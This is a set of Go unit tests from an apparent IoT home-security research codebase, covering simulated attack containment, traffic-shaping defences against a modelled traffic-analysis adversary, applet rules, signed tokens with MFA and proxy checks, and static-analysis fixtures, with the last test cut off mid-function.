	// The bridge's device cost is far below DoT-grade crypto.
	if r.Numbers["bulb_bridge_ms"]*5 > r.Numbers["bulb_dot_ms"] {
		t.Errorf("bridge cost %vms not <<5x DoT cost %vms",
			r.Numbers["bulb_bridge_ms"], r.Numbers["bulb_dot_ms"])
	}
}

func TestE8ContainmentStopsTheCampaign(t *testing.T) {
	r := mustLookup(t, "E8").Run(NewEnv(1))
	if r.Numbers["base_beacons"] == 0 || r.Numbers["base_flood"] == 0 {
		t.Error("unprotected campaign produced no traffic")
	}
	if r.Numbers["xlf_beacons"] != 0 {
		t.Errorf("beacons escaped XLF: %v", r.Numbers["xlf_beacons"])
	}
	if r.Numbers["xlf_flood"] != 0 {
		t.Errorf("flood packets escaped XLF: %v", r.Numbers["xlf_flood"])
	}
}

func TestE9StabilityShape(t *testing.T) {
	r := mustLookup(t, "E9").Run(NewEnv(1))
	if r.Numbers["false_per_device_day"] > 0.05 {
		t.Errorf("false alerts per benign device-day = %v, want ~0", r.Numbers["false_per_device_day"])
	}
	if r.Numbers["detected"] != 1 || r.Numbers["contained"] != 1 {
		t.Error("campaign not detected/contained over the long horizon")
	}
	if r.Numbers["detect_latency_s"] > 60 {
		t.Errorf("detection latency = %vs, want under a minute", r.Numbers["detect_latency_s"])
	}
}

func TestAllAndRender(t *testing.T) {
	if testing.Short() {
		t.Skip("full experiment suite in -short mode")
	}
	results := All(1)
	if len(results) != 17 {
		t.Fatalf("All returned %d results, want 17", len(results))
	}
	out := Render(results)
	for _, id := range []string{"T1", "T2", "T3", "F1", "F2", "F3", "F4", "E1", "E2", "E3", "E4", "E5", "E6", "E7", "E8", "E9", "E10"} {
		if !strings.Contains(out, "==== "+id+":") {
			t.Errorf("render missing %s", id)
		}
	}
}
