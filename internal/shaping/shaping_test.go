package shaping

import (
	"testing"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/sim"
)

func TestLevelConfigs(t *testing.T) {
	if Level(0).Mode != ModeOff {
		t.Error("level 0 not off")
	}
	if Level(0.2).Mode != ModeDelay {
		t.Error("level 0.2 not delay")
	}
	if Level(0.5).Mode != ModePad {
		t.Error("level 0.5 not pad")
	}
	c := Level(1.0)
	if c.Mode != ModeCombined || c.Interval <= 0 {
		t.Errorf("level 1 config = %+v", c)
	}
	if Level(0.7).Interval <= Level(1.0).Interval {
		t.Error("higher intensity should mean faster cadence")
	}
}

func TestStatsAccounting(t *testing.T) {
	s := Stats{RealPackets: 10, RealBytes: 1000, PaddedBytes: 200, DummyBytes: 300, TotalDelay: time.Second}
	if got := s.OverheadFraction(); got != 0.5 {
		t.Errorf("overhead = %v, want 0.5", got)
	}
	if got := s.MeanDelay(); got != 100*time.Millisecond {
		t.Errorf("mean delay = %v, want 100ms", got)
	}
	var zero Stats
	if zero.OverheadFraction() != 0 || zero.MeanDelay() != 0 {
		t.Error("zero stats not safe")
	}
}

func TestScoreEvents(t *testing.T) {
	truth := []GroundTruthEvent{{Time: 10 * time.Second}, {Time: 30 * time.Second}}
	inferred := []InferredEvent{{Time: 11 * time.Second}, {Time: 55 * time.Second}}
	p, r := ScoreEvents(inferred, truth, 2*time.Second)
	if p != 0.5 || r != 0.5 {
		t.Errorf("p/r = %v/%v, want 0.5/0.5", p, r)
	}
	p, r = ScoreEvents(nil, truth, time.Second)
	if p != 1 || r != 0 {
		t.Errorf("empty inference p/r = %v/%v", p, r)
	}
	p, r = ScoreEvents(nil, nil, time.Second)
	if p != 1 || r != 1 {
		t.Errorf("vacuous p/r = %v/%v", p, r)
	}
	// One truth event must not be double-counted by two inferences.
	p, _ = ScoreEvents([]InferredEvent{{Time: 10 * time.Second}, {Time: 10 * time.Second}}, truth[:1], time.Second)
	if p != 0.5 {
		t.Errorf("double-count precision = %v, want 0.5", p)
	}
}

// homeFixture builds a gateway-fronted home where one camera streams to
// its vendor cloud and emits event bursts at known times.
type homeFixture struct {
	kernel *sim.Kernel
	net    *netsim.Network
	gw     *netsim.Gateway
	wanCap *netsim.Capture
	truth  []GroundTruthEvent
}

func buildHome(t *testing.T, shaper *Shaper) *homeFixture {
	t.Helper()
	k := sim.NewKernel(1234)
	n := netsim.New(k)
	gw := netsim.NewGateway("lan:gw", "wan:home")
	if shaper != nil {
		gw.Shaper = shaper.GatewayHook()
	}
	f := &homeFixture{kernel: k, net: n, gw: gw, wanCap: netsim.NewCapture()}
	mustAttach(t, n, gw, netsim.DefaultLAN())
	mustAttach(t, n, gw.WANNode(), netsim.DefaultWAN())
	mustAttach(t, n, &netsim.FuncNode{Address: "wan:cam-cloud"}, netsim.DefaultWAN())
	mustAttach(t, n, &netsim.FuncNode{Address: "lan:cam"}, netsim.DefaultLAN())
	n.AddTap(netsim.TapWAN, f.wanCap.Tap())

	// Cleartext DNS lookup first (identification signal).
	n.Send(&netsim.Packet{Src: "lan:gw", Dst: "wan:dns", SrcPort: 5353, DstPort: 53, Proto: "DNS", Size: 80, DNSName: "cam.vendor.example", App: "dns-query"})

	// Steady keepalive at ~200 B/s + event bursts at 60s and 180s.
	k.Every(2*time.Second, 500*time.Millisecond, "keepalive", func() {
		gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud", DstPort: 443, Proto: "TLS", Encrypted: true, Size: 400})
	})
	for _, at := range []time.Duration{60 * time.Second, 180 * time.Second} {
		at := at
		f.truth = append(f.truth, GroundTruthEvent{Time: at, DeviceType: "camera"})
		k.Schedule(at, "motion-burst", func() {
			for i := 0; i < 12; i++ {
				gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud", DstPort: 443, Proto: "TLS", Encrypted: true, Size: 1200, App: "event:motion"})
			}
		})
	}
	return f
}

func mustAttach(t *testing.T, n *netsim.Network, node netsim.Node, l netsim.Link) {
	t.Helper()
	if err := n.Attach(node, l); err != nil {
		t.Fatal(err)
	}
}

func camKB() KnowledgeBase {
	return KnowledgeBase{
		DomainType: map[string]string{"cam.vendor.example": "camera"},
		DomainAddr: map[string]netsim.Addr{"cam.vendor.example": "wan:cam-cloud"},
		RateBand:   map[string][2]float64{"camera": {50, 2000}},
	}
}

func TestAdversaryWinsWithoutShaping(t *testing.T) {
	f := buildHome(t, nil)
	if err := f.kernel.Run(5 * time.Minute); err != nil {
		t.Fatal(err)
	}
	adv := NewAdversary(camKB())
	ids := adv.IdentifyDevices(f.wanCap.Records())
	if len(ids) != 1 || ids[0].DeviceType != "camera" {
		t.Fatalf("identification = %+v, want camera", ids)
	}
	if ids[0].Confidence < 0.8 {
		t.Errorf("confidence = %v, want high without shaping", ids[0].Confidence)
	}
	events := adv.InferEvents(f.wanCap.Records())
	_, recall := ScoreEvents(events, f.truth, 3*time.Second)
	if recall < 0.99 {
		t.Errorf("event recall = %v without shaping, want ~1", recall)
	}
}

func TestShapingDegradesAdversary(t *testing.T) {
	// Unshaped baseline.
	f0 := buildHome(t, nil)
	if err := f0.kernel.Run(5 * time.Minute); err != nil {
		t.Fatal(err)
	}
	adv := NewAdversary(camKB())
	ev0 := adv.InferEvents(f0.wanCap.Records())
	_, recall0 := ScoreEvents(ev0, f0.truth, 3*time.Second)

	// Full shaping (rate equalisation).
	fs := buildHomeWithShaper(t, Level(1))
	_, recallS := fs.run(t)

	if recallS >= recall0 {
		t.Errorf("shaping did not reduce event recall: %v -> %v", recall0, recallS)
	}
	if fs.shaper.Stats().OverheadFraction() <= 0 {
		t.Error("combined shaping reported zero overhead")
	}
}

type shapedHome struct {
	*homeFixture
	shaper *Shaper
}

func buildHomeWithShaper(t *testing.T, cfg Config) *shapedHome {
	t.Helper()
	k := sim.NewKernel(1234)
	sh := &Shaper{kernel: k, cfg: cfg}
	if sh.cfg.DummySize == 0 {
		sh.cfg.DummySize = sh.cfg.PadBucket
	}
	// Rebuild the fixture on the SAME kernel as the shaper.
	n := netsim.New(k)
	gw := netsim.NewGateway("lan:gw", "wan:home")
	gw.Shaper = sh.GatewayHook()
	f := &homeFixture{kernel: k, net: n, gw: gw, wanCap: netsim.NewCapture()}
	mustAttach(t, n, gw, netsim.DefaultLAN())
	mustAttach(t, n, gw.WANNode(), netsim.DefaultWAN())
	mustAttach(t, n, &netsim.FuncNode{Address: "wan:cam-cloud"}, netsim.DefaultWAN())
	mustAttach(t, n, &netsim.FuncNode{Address: "lan:cam"}, netsim.DefaultLAN())
	n.AddTap(netsim.TapWAN, f.wanCap.Tap())
	k.Every(2*time.Second, 500*time.Millisecond, "keepalive", func() {
		gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud", DstPort: 443, Proto: "TLS", Encrypted: true, Size: 400})
	})
	for _, at := range []time.Duration{60 * time.Second, 180 * time.Second} {
		at := at
		f.truth = append(f.truth, GroundTruthEvent{Time: at, DeviceType: "camera"})
		k.Schedule(at, "motion-burst", func() {
			for i := 0; i < 12; i++ {
				gw.SendOut(n, &netsim.Packet{Src: "lan:cam", SrcPort: 7001, Dst: "wan:cam-cloud", DstPort: 443, Proto: "TLS", Encrypted: true, Size: 1200, App: "event:motion"})
			}
		})
	}
	return &shapedHome{homeFixture: f, shaper: sh}
}

func (s *shapedHome) run(t *testing.T) (float64, float64) {
	t.Helper()
	if err := s.kernel.Run(5 * time.Minute); err != nil {
		t.Fatal(err)
	}
	adv := NewAdversary(camKB())
	ev := adv.InferEvents(s.wanCap.Records())
	return ScoreEvents(ev, s.truth, 3*time.Second)
}

func TestPaddingBlursSizes(t *testing.T) {
	k := sim.NewKernel(7)
	sh := New(k, Config{Mode: ModePad, PadBucket: 512})
	var sent []*netsim.Packet
	hook := sh.GatewayHook()
	for _, size := range []int{10, 100, 500, 513} {
		hook(&netsim.Packet{Size: size}, func(p *netsim.Packet) { sent = append(sent, p) })
	}
	k.RunAll(1000)
	if len(sent) != 4 {
		t.Fatalf("sent %d, want 4", len(sent))
	}
	for i, p := range sent[:3] {
		if p.Size != 512 {
			t.Errorf("packet %d size = %d, want 512", i, p.Size)
		}
	}
	if sent[3].Size != 1024 {
		t.Errorf("oversize packet = %d, want 1024", sent[3].Size)
	}
	if sh.Stats().PaddedBytes != (512-10)+(512-100)+(512-500)+(1024-513) {
		t.Errorf("padded bytes = %d", sh.Stats().PaddedBytes)
	}
}

func TestDelayModeDelaysDeterministically(t *testing.T) {
	run := func() []time.Duration {
		k := sim.NewKernel(99)
		sh := New(k, Config{Mode: ModeDelay, MaxDelay: 200 * time.Millisecond})
		hook := sh.GatewayHook()
		var times []time.Duration
		for i := 0; i < 5; i++ {
			hook(&netsim.Packet{Size: 100}, func(p *netsim.Packet) { times = append(times, k.Now()) })
		}
		k.RunAll(1000)
		return times
	}
	a, b := run(), run()
	if len(a) != 5 {
		t.Fatalf("delivered %d, want 5", len(a))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Error("delay schedule not deterministic across identical seeds")
		}
	}
	delayed := false
	for _, at := range a {
		if at > 0 {
			delayed = true
		}
	}
	if !delayed {
		t.Error("no packet was actually delayed")
	}
}

func TestConstantRateEqualisation(t *testing.T) {
	k := sim.NewKernel(5)
	sh := New(k, Config{Mode: ModeCombined, Interval: 100 * time.Millisecond, PadBucket: 256})
	hook := sh.GatewayHook()
	var emissions []time.Duration
	var real, dummy int
	send := func(p *netsim.Packet) {
		emissions = append(emissions, k.Now())
		if p.Dummy {
			dummy++
			if p.App != "" || p.Payload != nil {
				t.Error("dummy leaked application data")
			}
			if p.Size != 256 {
				t.Errorf("dummy size = %d, want 256", p.Size)
			}
		} else {
			real++
			if p.Size%256 != 0 {
				t.Errorf("real packet not padded: %d", p.Size)
			}
		}
	}
	// A burst of 5 real packets at t=0; the shaper must drain them at the
	// flat cadence with dummies continuing afterwards.
	for i := 0; i < 5; i++ {
		hook(&netsim.Packet{Size: 100, App: "event:on", Payload: []byte("x")}, send)
	}
	if err := k.Run(time.Second); err != nil {
		t.Fatal(err)
	}
	if real != 5 {
		t.Errorf("real = %d, want 5", real)
	}
	if dummy == 0 {
		t.Error("no cover traffic emitted after queue drained")
	}
	// Every emission exactly one cadence apart: a perfectly flat stream.
	for i := 1; i < len(emissions); i++ {
		if d := emissions[i] - emissions[i-1]; d != 100*time.Millisecond {
			t.Fatalf("inter-cell gap %s at %d, want 100ms", d, i)
		}
	}
	if sh.Stats().DummyPackets != dummy {
		t.Error("dummy accounting mismatch")
	}
}

func TestIdleBudgetPausesCover(t *testing.T) {
	k := sim.NewKernel(5)
	sh := New(k, Config{Mode: ModeCombined, Interval: 50 * time.Millisecond, PadBucket: 128, IdleBudget: 3})
	hook := sh.GatewayHook()
	var dummy int
	hook(&netsim.Packet{Size: 64}, func(p *netsim.Packet) {
		if p.Dummy {
			dummy++
		}
	})
	if err := k.Run(10 * time.Second); err != nil {
		t.Fatal(err)
	}
	if dummy != 3 {
		t.Errorf("dummies = %d, want exactly IdleBudget=3", dummy)
	}
}
