package service

import (
	"testing"
)

func TestAppletCompileValidation(t *testing.T) {
	if _, err := (Applet{}).Compile(nil); err == nil {
		t.Error("empty applet compiled")
	}
	if _, err := (Applet{ID: "x", IfDevice: "a"}).Compile(nil); err == nil {
		t.Error("incomplete applet compiled")
	}
	app, err := (Applet{
		ID: "motion-light", IfDevice: "cam-1", IfEvent: "motion",
		ThenDevice: "bulb-1", ThenCommand: "on",
	}).Compile(nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(app.Rules) != 1 || len(app.Grants) != 2 {
		t.Errorf("compiled app = %+v", app)
	}
}

func TestInstallAppletEndToEnd(t *testing.T) {
	c := newCloud(t, Flaws{})
	if err := c.InstallApplet(Applet{
		ID: "motion-light", IfDevice: "cam-1", IfEvent: "motion",
		ThenDevice: "bulb-1", ThenCommand: "on",
	}); err != nil {
		t.Fatal(err)
	}
	if err := c.PublishDeviceEvent("cam-1", "motion", 1); err != nil {
		t.Fatal(err)
	}
	log := c.CommandLog()
	if len(log) != 1 || log[0].DeviceID != "bulb-1" || log[0].Name != "on" {
		t.Fatalf("command log = %+v", log)
	}
	// The capability was resolved from the handler's CapOfCommand map
	// ("on" -> "switch"), so the grant is minimal and correct.
	subs := c.Subscriptions()
	if got := subs["motion-light"]; len(got) != 1 || got[0] != "cam-1/motion" {
		t.Errorf("subscriptions = %v", subs)
	}
}

func TestAppletThreshold(t *testing.T) {
	c := newCloud(t, Flaws{})
	limit := 80.0
	if err := c.InstallApplet(Applet{
		ID: "hot-window", IfDevice: "thermo-1", IfEvent: "temperature", Above: &limit,
		ThenDevice: "window-1", ThenCommand: "open",
	}); err != nil {
		t.Fatal(err)
	}
	c.PublishDeviceEvent("thermo-1", "temperature", 75)
	if len(c.CommandLog()) != 0 {
		t.Error("sub-threshold applet fired")
	}
	c.PublishDeviceEvent("thermo-1", "temperature", 85)
	if len(c.CommandLog()) != 1 {
		t.Error("applet did not fire above threshold")
	}
}

func TestInstallAppletRejectsUnknownDevices(t *testing.T) {
	c := newCloud(t, Flaws{})
	err := c.InstallApplet(Applet{
		ID: "ghost", IfDevice: "nonexistent", IfEvent: "x",
		ThenDevice: "bulb-1", ThenCommand: "on",
	})
	if err == nil {
		t.Error("applet on unknown device installed")
	}
}
