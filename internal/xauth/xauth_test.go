package xauth

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

func testAuthority(t *testing.T) *Authority {
	t.Helper()
	a, err := NewAuthority([]byte("test-signing-key"), []User{
		{Name: "alice", Password: "alice-pw", Priv: Advanced, MFASecret: "alice-mfa"},
		{Name: "bob", Password: "bob-pw", Priv: Basic},
	})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestTokenIssueVerify(t *testing.T) {
	s, err := NewSigner([]byte("k"))
	if err != nil {
		t.Fatal(err)
	}
	now := 10 * time.Minute
	tok := s.Issue("alice", "bulb-1", Advanced, true, now, time.Hour)
	if err := s.Verify(tok, now+time.Minute, "bulb-1"); err != nil {
		t.Errorf("valid token rejected: %v", err)
	}
	if err := s.Verify(tok, now+2*time.Hour, "bulb-1"); !errors.Is(err, ErrExpired) {
		t.Errorf("expired token: err = %v, want ErrExpired", err)
	}
	if err := s.Verify(tok, now, "cam-1"); !errors.Is(err, ErrWrongDevice) {
		t.Errorf("wrong device: err = %v, want ErrWrongDevice", err)
	}
	if err := s.Verify(tok, now-time.Hour, "bulb-1"); !errors.Is(err, ErrNotYetValid) {
		t.Errorf("future token: err = %v, want ErrNotYetValid", err)
	}
}

func TestTokenTamperDetected(t *testing.T) {
	s, _ := NewSigner([]byte("k"))
	tok := s.Issue("bob", "", Basic, false, 0, time.Hour)
	tok.Priv = Advanced // privilege escalation attempt
	if err := s.Verify(tok, time.Minute, ""); !errors.Is(err, ErrBadSignature) {
		t.Errorf("tampered token: err = %v, want ErrBadSignature", err)
	}
	// A different key must also fail.
	s2, _ := NewSigner([]byte("other"))
	good := s.Issue("bob", "", Basic, false, 0, time.Hour)
	if err := s2.Verify(good, time.Minute, ""); !errors.Is(err, ErrBadSignature) {
		t.Errorf("cross-key token: err = %v, want ErrBadSignature", err)
	}
}

// TestRedactHidesSignature: the sanctioned display form must never
// contain the full MAC (that is the point of the secretleak sanitizer).
func TestRedactHidesSignature(t *testing.T) {
	s, _ := NewSigner([]byte("k"))
	tok := s.Issue("alice", "bulb-1", Advanced, true, 0, time.Hour)
	red := Redact(tok)
	if !strings.Contains(red, "alice") {
		t.Errorf("Redact(%v) = %q, want the subject visible", tok, red)
	}
	if strings.Contains(red, string(tok.Sig)) || strings.Contains(red, Encode(tok)) {
		t.Errorf("Redact leaked raw token material: %q", red)
	}
	if red := Redact(Token{Subject: "x", Priv: Basic}); red != "token(x/basic sig=unsigned)" {
		t.Errorf("unsigned form = %q", red)
	}
}

func TestTokenEncodeDecodeRoundTrip(t *testing.T) {
	s, _ := NewSigner([]byte("k"))
	f := func(sub string, dev string, adv bool) bool {
		priv := Basic
		if adv {
			priv = Advanced
		}
		tok := s.Issue(sub, dev, priv, adv, time.Minute, time.Hour)
		dec, err := Decode(Encode(tok))
		if err != nil {
			return false
		}
		return dec.Subject == sub && dec.Device == dev && dec.Priv == priv &&
			s.Verify(dec, 2*time.Minute, dev) == nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestDecodeGarbage(t *testing.T) {
	if _, err := Decode("!!!not-base64!!!"); err == nil {
		t.Error("Decode accepted garbage")
	}
	if _, err := Decode("aGVsbG8"); err == nil { // "hello", not JSON
		t.Error("Decode accepted non-JSON")
	}
}

func TestAuthenticateFlows(t *testing.T) {
	a := testAuthority(t)
	now := time.Hour

	// Wrong password.
	if _, err := a.Authenticate("alice", "nope", "", "", now); !errors.Is(err, ErrBadPassword) {
		t.Errorf("err = %v, want ErrBadPassword", err)
	}
	// MFA required for alice.
	if _, err := a.Authenticate("alice", "alice-pw", "", "", now); !errors.Is(err, ErrNeedMFA) {
		t.Errorf("err = %v, want ErrNeedMFA", err)
	}
	code, err := a.MFACodeFor("alice", now)
	if err != nil {
		t.Fatal(err)
	}
	tok, err := a.Authenticate("alice", "alice-pw", code, "bulb-1", now)
	if err != nil {
		t.Fatal(err)
	}
	if !tok.MFA || tok.Priv != Advanced {
		t.Errorf("token = %+v, want MFA advanced", tok)
	}
	// Stale MFA code (old time step) fails.
	oldCode, _ := a.MFACodeFor("alice", now-10*time.Minute)
	if _, err := a.Authenticate("alice", "alice-pw", oldCode, "", now); !errors.Is(err, ErrBadMFA) {
		t.Errorf("stale MFA: err = %v, want ErrBadMFA", err)
	}
	// Bob has no MFA enrolled: password alone suffices, token unmarked.
	btok, err := a.Authenticate("bob", "bob-pw", "", "", now)
	if err != nil {
		t.Fatal(err)
	}
	if btok.MFA {
		t.Error("bob's token claims MFA")
	}
	// Unknown user.
	if _, err := a.Authenticate("mallory", "x", "", "", now); !errors.Is(err, ErrUnknownUser) {
		t.Errorf("err = %v, want ErrUnknownUser", err)
	}
}

func TestAuthorizeRules(t *testing.T) {
	a := testAuthority(t)
	now := time.Hour
	code, _ := a.MFACodeFor("alice", now)
	advTok, _ := a.Authenticate("alice", "alice-pw", code, "", now)
	basicTok, _ := a.Authenticate("bob", "bob-pw", "", "", now)

	if err := a.Authorize(advTok, Advanced, "", now); err != nil {
		t.Errorf("advanced+MFA refused: %v", err)
	}
	if err := a.Authorize(basicTok, Advanced, "", now); !errors.Is(err, ErrPrivTooLow) {
		t.Errorf("basic doing write: err = %v, want ErrPrivTooLow", err)
	}
	if err := a.Authorize(basicTok, Basic, "", now); err != nil {
		t.Errorf("basic read refused: %v", err)
	}
}

func TestLifetimePolicyHook(t *testing.T) {
	a := testAuthority(t)
	a.LifetimePolicy = func(u User, dev string) time.Duration {
		if u.Priv == Advanced {
			return 10 * time.Minute // tighter for powerful tokens
		}
		return 2 * time.Hour
	}
	now := time.Hour
	code, _ := a.MFACodeFor("alice", now)
	advTok, _ := a.Authenticate("alice", "alice-pw", code, "", now)
	if got := advTok.ExpiresAt - advTok.IssuedAt; got != 10*time.Minute {
		t.Errorf("advanced lifetime = %s, want 10m", got)
	}
	basicTok, _ := a.Authenticate("bob", "bob-pw", "", "", now)
	if got := basicTok.ExpiresAt - basicTok.IssuedAt; got != 2*time.Hour {
		t.Errorf("basic lifetime = %s, want 2h", got)
	}
}

func TestProxyLANFastPath(t *testing.T) {
	a := testAuthority(t)
	p := NewProxy(a, DefaultProxyConfig())
	now := time.Hour
	basicTok, _ := a.Authenticate("bob", "bob-pw", "", "", now)

	// First LAN access presents the token: verified locally, cached.
	d1 := p.Handle(AccessRequest{User: "bob", DeviceID: "bulb-1", Origin: FromLAN, Token: &basicTok}, now)
	if !d1.Allowed || d1.AuthenticatedBy != "proxy-sso" {
		t.Fatalf("first LAN access: %s", d1)
	}
	// Second LAN access hits the cache, cheaper than cloud RTT.
	d2 := p.Handle(AccessRequest{User: "bob", DeviceID: "bulb-1", Origin: FromLAN}, now+time.Minute)
	if !d2.Allowed || d2.AuthenticatedBy != "proxy-cache" {
		t.Fatalf("cached LAN access: %s", d2)
	}
	if d2.Latency >= DefaultProxyConfig().CloudRTT {
		t.Errorf("cache latency %s not below cloud RTT", d2.Latency)
	}
	hits, fills, _ := p.Stats()
	if hits != 1 || fills != 1 {
		t.Errorf("stats hits=%d fills=%d, want 1/1", hits, fills)
	}
}

func TestProxyDeniesWithoutToken(t *testing.T) {
	a := testAuthority(t)
	p := NewProxy(a, DefaultProxyConfig())
	d := p.Handle(AccessRequest{User: "bob", Origin: FromLAN}, time.Hour)
	if d.Allowed {
		t.Error("LAN access with no token/cache allowed")
	}
	d = p.Handle(AccessRequest{User: "bob", Origin: FromWAN}, time.Hour)
	if d.Allowed {
		t.Error("WAN access without token allowed")
	}
}

func TestProxyWriteRequiresAdvancedMFA(t *testing.T) {
	a := testAuthority(t)
	p := NewProxy(a, DefaultProxyConfig())
	now := time.Hour
	basicTok, _ := a.Authenticate("bob", "bob-pw", "", "", now)
	d := p.Handle(AccessRequest{User: "bob", DeviceID: "cam-1", Origin: FromLAN, Write: true, Token: &basicTok}, now)
	if d.Allowed {
		t.Error("basic user permitted a write")
	}
	code, _ := a.MFACodeFor("alice", now)
	advTok, _ := a.Authenticate("alice", "alice-pw", code, "", now)
	d = p.Handle(AccessRequest{User: "alice", DeviceID: "cam-1", Origin: FromLAN, Write: true, Token: &advTok}, now)
	if !d.Allowed {
		t.Errorf("advanced+MFA write denied: %s", d)
	}
}

func TestProxyExpiredCacheEvicted(t *testing.T) {
	a := testAuthority(t)
	a.DefaultLifetime = time.Minute
	p := NewProxy(a, DefaultProxyConfig())
	now := time.Hour
	tok, _ := a.Authenticate("bob", "bob-pw", "", "", now)
	p.Prime(tok)
	// Way past expiry: cache cannot vouch, and with no fresh token the
	// request is denied.
	d := p.Handle(AccessRequest{User: "bob", Origin: FromLAN}, now+time.Hour)
	if d.Allowed {
		t.Error("expired cached token accepted")
	}
}

func TestProxyWANAlwaysRevalidates(t *testing.T) {
	a := testAuthority(t)
	p := NewProxy(a, DefaultProxyConfig())
	now := time.Hour
	tok, _ := a.Authenticate("bob", "bob-pw", "", "", now)
	d := p.Handle(AccessRequest{User: "bob", Origin: FromWAN, Token: &tok}, now)
	if !d.Allowed || d.AuthenticatedBy != "cloud-sso+mfa" {
		t.Fatalf("WAN access: %s", d)
	}
	if d.Latency != DefaultProxyConfig().CloudRTT {
		t.Errorf("WAN latency = %s, want cloud RTT", d.Latency)
	}
}

func TestBaselineLatencyShape(t *testing.T) {
	a := testAuthority(t)
	cfg := BaselineConfig{CloudRTT: 45 * time.Millisecond, DeviceVerify: 30 * time.Millisecond, RedirectRTT: 10 * time.Millisecond}
	b := NewBaseline(a, cfg)
	now := time.Hour
	code, _ := a.MFACodeFor("alice", now)
	advTok, _ := a.Authenticate("alice", "alice-pw", code, "", now)

	read := b.Handle(AccessRequest{User: "alice", Token: &advTok}, now)
	if !read.Allowed || read.Latency != cfg.CloudRTT {
		t.Errorf("baseline read: %s", read)
	}
	write := b.Handle(AccessRequest{User: "alice", Write: true, Token: &advTok}, now)
	if !write.Allowed {
		t.Fatalf("baseline write denied: %s", write)
	}
	if write.Latency != cfg.CloudRTT+cfg.RedirectRTT+cfg.DeviceVerify {
		t.Errorf("baseline write latency = %s", write.Latency)
	}

	// The XLF proxy LAN fast path beats the baseline read path.
	p := NewProxy(a, DefaultProxyConfig())
	p.Prime(advTok)
	d := p.Handle(AccessRequest{User: "alice", Origin: FromLAN}, now)
	if !d.Allowed || d.Latency >= read.Latency {
		t.Errorf("proxy LAN (%s) not faster than baseline cloud (%s)", d.Latency, read.Latency)
	}
}

func TestNewAuthorityValidation(t *testing.T) {
	if _, err := NewAuthority(nil, nil); err == nil {
		t.Error("empty key accepted")
	}
	if _, err := NewAuthority([]byte("k"), []User{{Name: ""}}); err == nil {
		t.Error("empty user name accepted")
	}
	if _, err := NewAuthority([]byte("k"), []User{{Name: "a"}, {Name: "a"}}); err == nil {
		t.Error("duplicate user accepted")
	}
}
