package analysis

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// fixtureModule is the module path fixture packages pretend to live in.
const fixtureModule = "example.com/m"

// fixturePackages loads every package under testdata/<rule>, mapping
// directory structure to import paths under fixtureModule.
func fixturePackages(t *testing.T, rule string) []*Package {
	t.Helper()
	root := filepath.Join("testdata", rule)
	var pkgs []*Package
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		rel, err := filepath.Rel(root, path)
		if err != nil {
			return err
		}
		importPath := fixtureModule
		if rel != "." {
			importPath = fixtureModule + "/" + filepath.ToSlash(rel)
		}
		pkg, err := LoadDir(path, importPath)
		if err != nil {
			return err
		}
		if pkg != nil {
			pkgs = append(pkgs, pkg)
		}
		return nil
	})
	if err != nil {
		t.Fatalf("loading fixture %s: %v", rule, err)
	}
	if len(pkgs) == 0 {
		t.Fatalf("fixture %s holds no packages", rule)
	}
	return pkgs
}

var wantRe = regexp.MustCompile(`// want "([^"]*)"`)

// checkFixture runs the analyzers over a fixture tree and matches
// findings 1:1 against the `// want "regexp"` expectations in the
// sources.
func checkFixture(t *testing.T, rule string, ans ...Analyzer) {
	t.Helper()
	pkgs := fixturePackages(t, rule)
	findings := Run(pkgs, ans)

	type key struct {
		file string
		line int
	}
	want := make(map[key]*regexp.Regexp)
	for _, pkg := range pkgs {
		for _, f := range pkg.Files {
			data, err := os.ReadFile(f.Name)
			if err != nil {
				t.Fatal(err)
			}
			for i, line := range strings.Split(string(data), "\n") {
				m := wantRe.FindStringSubmatch(line)
				if m == nil {
					continue
				}
				re, err := regexp.Compile(m[1])
				if err != nil {
					t.Fatalf("%s:%d: bad want pattern %q: %v", f.Name, i+1, m[1], err)
				}
				want[key{f.Name, i + 1}] = re
			}
		}
	}
	if len(want) == 0 {
		t.Fatalf("fixture %s declares no expectations", rule)
	}

	matched := make(map[key]bool)
	for _, fd := range findings {
		k := key{fd.File, fd.Line}
		re, ok := want[k]
		if !ok {
			t.Errorf("unexpected finding: %s", fd)
			continue
		}
		text := fmt.Sprintf("[%s] %s", fd.Rule, fd.Message)
		if !re.MatchString(text) {
			t.Errorf("%s:%d: finding %q does not match want %q", k.file, k.line, text, re)
		}
		matched[k] = true
	}
	for k, re := range want {
		if !matched[k] {
			t.Errorf("%s:%d: expected a finding matching %q, got none", k.file, k.line, re)
		}
	}
}

func TestLayerCheckFixture(t *testing.T) {
	checkFixture(t, "layercheck", NewLayerCheck(fixtureModule, map[string][]string{
		"internal/device": {"internal/lwc"},
		"internal/lwc":    {},
	}))
}

func TestDeterminismFixture(t *testing.T) {
	checkFixture(t, "determinism", NewDeterminism([]string{fixtureModule + "/internal/sim"}, nil))
}

func TestLockCheckFixture(t *testing.T) {
	checkFixture(t, "lockcheck", NewLockCheck())
}

func TestErrDropFixture(t *testing.T) {
	checkFixture(t, "errdrop", NewErrDrop([]string{fixtureModule + "/internal/xauth"}))
}

// fixtureTaintRule rebases a real taint rule's intra-module refs onto the
// fixture module, so the fixture exercises the production tables.
func fixtureTaintRule(r TaintRule) TaintRule {
	rebase := func(refs []TaintRef) []TaintRef {
		out := make([]TaintRef, len(refs))
		for i, ref := range refs {
			if rest, ok := strings.CutPrefix(ref.Pkg, XLFModule+"/"); ok {
				ref.Pkg = fixtureModule + "/" + rest
			}
			out[i] = ref
		}
		return out
	}
	r.Sources = rebase(r.Sources)
	r.Sinks = rebase(r.Sinks)
	r.Sanitizers = rebase(r.Sanitizers)
	return r
}

// TestTaintFixture runs both dataflow rules (sharing one type-check)
// over the seeded flow shapes: direct leak, sealed path, interprocedural
// in both directions, field writes, and waivers.
func TestTaintFixture(t *testing.T) {
